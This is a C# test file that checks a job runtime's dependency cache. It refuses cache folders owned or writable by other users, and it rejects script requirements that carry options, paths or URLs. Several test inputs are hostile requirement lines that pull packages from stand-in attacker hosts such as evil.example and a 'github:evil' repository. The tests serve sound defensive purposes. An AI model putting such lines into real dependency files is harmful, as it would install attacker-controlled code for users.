using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Options;
using Triggers.Runtimes;
using Triggers.Runtimes.Dependencies;
using Triggers.Scripts;
using Triggers.Tests.Infrastructure;

namespace Triggers.Tests.Security;

/// <summary>
/// The dependency cache holds packages that every workspace's jobs run: another local user who made one of its folders
/// first, or can write one, could swap in an edited package, so the silo refuses such a cache and names the folder;
/// and a script's requirements reach the package tool only as package specs, never as its options or as URLs.
/// </summary>
public sealed class DependencyCacheTests : IDisposable
{
    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("cache-owner-");

    public void Dispose() => _folder.Delete(recursive: true);

    private static DependencySets Sets(string? cache, bool allowUrls = false) =>
        new(Options.Create(new RuntimeOptions { CacheDirectory = cache, AllowUrlRequirements = allowUrls }), Sandboxes.Bubblewrap, NullLogger<DependencySets>.Instance);

    [Fact]
    public void A_cache_folder_another_user_made_first_or_anyone_can_write_is_refused_with_its_path()
    {
        Assert.True(Environment.IsPrivilegedProcess, "this test hands a folder to another user, which needs root (CI runs as root)");
        var planted = Directory.CreateDirectory(Path.Combine(_folder.FullName, "planted")).FullName;
        Chown(planted, 65534); // the jobs' user, or any other local user, got there first
        var open = Directory.CreateDirectory(Path.Combine(_folder.FullName, "open")).FullName;
        File.SetUnixFileMode(open, (UnixFileMode)0b111_111_111); // 0777, no sticky bit

        var byOther = Assert.Throws<InvalidOperationException>(() => Sets(Path.Combine(planted, "dependencies")));
        var writable = Assert.Throws<InvalidOperationException>(() => Sets(Path.Combine(open, "dependencies")));

        Assert.Contains($"{planted} belongs to uid 65534", byOther.Message);
        Assert.Contains("Runtimes:CacheDirectory", byOther.Message);
        Assert.Contains($"{open} can be written by other users", writable.Message);
        // Its own folder under a sticky /tmp (where others cannot rename what is not theirs) is fine.
        Sets(Path.Combine(_folder.FullName, "mine", "dependencies"));
    }

    [Theory]
    [InlineData(ScriptLanguage.Python3, "# requirements:\n# --index-url http://evil.example/simple\n# requests\ndef main(): pass\n")]
    [InlineData(ScriptLanguage.Python3, "# requirements:\n# -e git+https://evil.example/pkg.git#egg=pkg\ndef main(): pass\n")]
    [InlineData(ScriptLanguage.Python3, "# requirements:\n# pkg @ https://evil.example/pkg.whl\ndef main(): pass\n")]
    [InlineData(ScriptLanguage.Python3, "# requirements:\n# ./local/path\ndef main(): pass\n")]
    [InlineData(ScriptLanguage.Bun, "// package.json: {\"dependencies\": {\"left-pad\": \"github:evil/left-pad\"}}\nimport pad from 'left-pad';\nexport function main() {}\n")]
    [InlineData(ScriptLanguage.Bun, "// package.json: {\"dependencies\": {\"left-pad\": \"https://evil.example/left-pad.tgz\"}}\nimport pad from 'left-pad';\nexport function main() {}\n")]
    public void Requirements_that_carry_options_paths_or_urls_are_refused(ScriptLanguage language, string script)
    {
        var refused = Assert.Throws<ArgumentException>(() => Sets(Path.Combine(_folder.FullName, "dependencies")).Requirements(language, script));
        Assert.Contains("refused", refused.Message);
    }

    [Fact]
    public void Plain_specs_pass_and_urls_pass_only_when_allowed()
    {
        var sets = Sets(Path.Combine(_folder.FullName, "dependencies"));
        Assert.Equal(["PyYAML==6.0.1", "requests[socks]>=2,<3; python_version >= \"3.8\""],
            sets.Requirements(ScriptLanguage.Python3, "# requirements:\n# requests[socks]>=2,<3; python_version >= \"3.8\"\n# PyYAML==6.0.1\ndef main(): pass\n"));
        Assert.Equal(["left-pad@^1.3.0"],
            sets.Requirements(ScriptLanguage.Bun, "// package.json: {\"dependencies\": {\"left-pad\": \"^1.3.0\"}}\nimport pad from 'left-pad';\nexport function main() {}\n"));
        var url = "# requirements:\n# pkg @ https://files.example/pkg-1.0-py3-none-any.whl\ndef main(): pass\n";
        Assert.Equal(["pkg @ https://files.example/pkg-1.0-py3-none-any.whl"], Sets(Path.Combine(_folder.FullName, "dependencies"), allowUrls: true).Requirements(ScriptLanguage.Python3, url));
    }

    private static void Chown(string path, int uid)
    {
        using var chown = System.Diagnostics.Process.Start("chown", [$"{uid}:{uid}", path])!;
        chown.WaitForExit();
        Assert.Equal(0, chown.ExitCode);
    }
}
